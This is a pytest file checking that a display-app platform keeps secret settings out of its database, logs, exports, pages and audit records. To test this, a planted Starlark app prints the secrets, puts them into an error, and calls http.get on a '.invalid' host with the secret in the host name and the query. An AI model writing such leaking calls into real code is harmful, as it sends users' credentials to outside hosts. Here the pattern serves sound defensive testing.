"""Secret settings leave no clear text anywhere, whatever operation takes them and whatever its result."""

import base64
import json
import secrets

import pytest
from authors import audited
from devices import add, panel_of
from forms import MADE, Owner, author, needs, publish, reviewer
from people import Person, World, wait_until
from rendered import make_due

__all__ = ["author", "reviewer"]  # fixtures
pytestmark = needs("starlark")
PHRASE = "correct horse battery"
COLUMNS = ("SELECT table_schema, table_name, column_name FROM information_schema.columns JOIN "
           "information_schema.tables USING (table_schema, table_name) WHERE table_type = 'BASE TABLE' "
           "AND table_schema NOT IN ('pg_catalog', 'information_schema')")

# The app reveals its secrets in its log, its errors, host names and answers of its handlers.
SCRIPT = MADE.replace("def main(config):", """load("http.star", "http")

def main(config):
    known = [config.get(name) for name in ["key", "token"] if config.get(name)]
    print("known are", known)
    if config.get("text") == "ask":
        http.get("https://" + known[0] + ".invalid/?key=" + known[0])
    if config.get("text") == "tell":
        fail("wrong %s" % known)""")


@pytest.fixture(name="world", scope="module")
def world_of_its_own(postgres):
    """No other test has used its database."""
    with World(postgres.create_database(), "--rate-limit", "0") as one:
        yield one


class Told:
    """Secrets that somebody has typed: letters and digits, which no encoding changes."""

    def __init__(self):
        self.all = []

    def new(self):
        self.all.append("s" + secrets.token_hex(16))
        return self.all[-1]

    def assert_nowhere(self, where, text):
        for secret in self.all:
            encoded = base64.b64encode(secret.encode()).decode()
            for form in (secret, secret.encode().hex(), secret[::-1], encoded):
                assert form not in text, f"{where} has {form}"


@pytest.fixture
def told():
    return Told()


def assert_no_trace(world, told):
    """Searches each column of each table, and bytes as they are."""
    columns = world.sql(COLUMNS)
    names = {(table, column) for _, table, column in columns}
    assert {("audit_entry", "target"), ("installation", "secret_settings"), ("render", "problem")} <= names
    for schema, table, column in columns:
        for [value] in world.sql(f'SELECT "{column}" FROM "{schema}"."{table}"'):
            is_bytes = isinstance(value, memoryview)
            text = bytes(value).decode("latin-1") if is_bytes else str(value)
            told.assert_nowhere(f"{table}.{column}", text)
    told.assert_nowhere("the log", world.server.log())


def failed(owner, entry, words):
    """Problem of a failed render with these words, as the owner's page shows it."""
    def look():
        shown = owner.browser.get(entry.path + "/render").ok()
        return shown["problem"] and words in shown["problem"]["message"] and shown
    return wait_until(look, f"a failure: {words}")


def assert_export_tells_none(world, owner, told, folder):
    (folder / "phrase").write_text(PHRASE)
    with_phrase = ("--pass-phrase-file", str(folder / "phrase"))
    for name, arguments, left_out in (("without", (), True), ("sealed", with_phrase, False)):
        path = folder / name
        shown = world.server.ctl("export", "--account", owner.person.email, str(path), *arguments)
        assert bool(shown["secretsLeftOut"]) == left_out
        told.assert_nowhere("the export", path.read_text(encoding="utf-8"))


def change(owner, app, entry, told):
    """Takes settings in each way: stored, rejected, only shown."""
    entry.set(kind="b", key=told.new(), token=told.new(), text="x").ok()
    entry.set(kind="b", token=told.new(), text="x").ok()
    entry.set(kind=told.new(), key=told.new(), on=told.new(), token=told.new()).problem(400)
    entry.set(kind="b", text="fail", unknown=told.new(), token=told.new()).problem(409)
    for text in ("x", "tell", "ask"):
        typed = {"kind": "b", "text": text, "key": told.new(), "token": told.new()}
        shown = owner.preview(app, typed, installationId=entry.id).ok()
        told.assert_nowhere("a preview", json.dumps({**shown, "picture": None}))
        answer = owner.ask(app, "more", "b", settings=typed, deviceId=owner.device,
                           installationId=entry.id).ok()
        told.assert_nowhere("what a handler answers", json.dumps(answer))


def test_secret_settings_leave_no_trace(world, author, reviewer, told, tmp_path):
    owner = Owner(world)
    app = publish(author, reviewer, SCRIPT)
    administrator = Person(world, is_administrator=True).browser()
    made = add(owner.browser)
    owner.device = made["device"]["id"]
    entry = owner.installed(app, kind="b", key=told.new(), token=told.new(), text="x")
    change(owner, app, entry, told)
    with panel_of(world, made):
        for text, words in (("tell", "wrong"), ("ask", "****")):
            entry.set(kind="b", text=text, key=told.new(), token=told.new()).ok()
            make_due(world, app)
            told.assert_nowhere("the owner's page", json.dumps(failed(owner, entry, words)))
            told.assert_nowhere("the author's page",
                                json.dumps(author.browser.get(app.path + "/renders").ok()))
    told.assert_nowhere("the app's page", json.dumps(owner.browser.get(f"/web/apps/{app.slug}").ok()))
    assert_export_tells_none(world, owner, told, tmp_path)
    assert_no_trace(world, told)
    app.publish(reviewer, "2.0", SCRIPT.replace("secret = True", "secret = False"))
    assert_no_trace(world, told)
    entry.set(kind="b", key=None, token=None).ok()
    owner.browser.delete(entry.path)
    owner.browser.delete(f"/web/devices/{owner.device}")
    assert {"app.create", "version.approve"} & {one for one, _ in audited(administrator, app.slug)}
    told.assert_nowhere("the audit list", json.dumps(administrator.get("/web/admin/audit").ok()))
    assert_no_trace(world, told)


def test_those_of_the_command_line_leave_no_trace(world, author, reviewer, told, tmp_path):
    owner = Owner(world)
    app = publish(author, reviewer, SCRIPT)
    path = tmp_path / "settings"
    path.write_text(json.dumps({"kind": "b", "key": told.new()}))
    ctl = world.server.ctl
    made = ctl("installation", "create", "--device", owner.device, "--app", app.slug,
               "--settings", str(path))
    path.write_text(json.dumps({"key": told.new()}))
    changed = ctl("installation", "update", made["id"], "--device", owner.device,
                  "--settings", str(path))
    shown = ctl("installation", "show", made["id"], "--device", owner.device)
    sealed = "SELECT secret_settings IS NOT NULL FROM installation WHERE id = %s"
    assert world.sql(sealed, made["id"]) == [(True,)]
    told.assert_nowhere("what displayctl prints", json.dumps([made, changed, shown]))
    assert_no_trace(world, told)
